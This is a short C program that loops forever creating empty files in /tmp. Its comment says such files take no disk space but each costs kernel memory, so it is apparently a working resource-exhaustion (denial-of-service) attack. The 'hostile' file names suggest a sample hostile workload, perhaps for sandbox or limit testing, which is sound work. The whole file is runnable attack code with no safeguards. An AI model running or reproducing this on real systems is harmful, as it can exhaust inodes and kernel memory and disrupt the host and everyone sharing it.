/* Empty files take no space in the file system, and a kilobyte each of the kernel's. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    char name[32];
    for (int i = 0;; i++) {
        sprintf(name, "/tmp/hf_hostile_%d", i);
        close(open(name, O_CREAT | O_WRONLY, 0600));
    }
}
